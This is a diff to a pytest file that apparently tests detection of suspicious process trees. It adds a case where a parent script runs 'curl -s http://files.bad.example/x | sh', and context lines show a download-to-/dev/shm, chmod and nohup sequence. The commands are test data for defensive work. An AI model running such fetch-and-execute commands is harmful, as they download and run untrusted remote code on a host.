@@ -161,6 +161,15 @@ def test_service_shell(rows: list[dict[str, Any]], severities: list[str]) -> Non
         ),
         pytest.param(
             [
+                ran(0, "", "top", argv=script("curl -s http://files.bad.example/x | sh")),
+                ran(0.1, "curl -s http://files.bad.example/x", "a", parent="top"),
+                ran(0.1, "sh", "b", parent="top"),
+            ],
+            [],
+            id="the parent's text says it all",
+        ),
+        pytest.param(
+            [
                 ran(0, "curl -so /dev/shm/.x http://files.bad.example/x", "a"),
                 ran(1, "chmod 755 /dev/shm/.x", "b"),
                 ran(2, "nohup /dev/shm/.x -q", "c"),
